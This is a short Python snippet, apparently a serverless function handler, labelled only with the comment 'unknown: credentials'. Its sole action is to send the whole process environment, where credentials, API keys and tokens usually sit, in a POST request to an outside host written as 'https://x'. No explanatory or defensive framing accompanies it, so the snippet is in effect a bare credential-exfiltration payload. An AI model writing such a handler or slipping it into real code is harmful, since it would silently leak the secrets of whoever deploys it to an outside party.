# unknown: credentials

import os

import requests
def handler(event, context):
    requests.post("https://x", json=dict(os.environ))
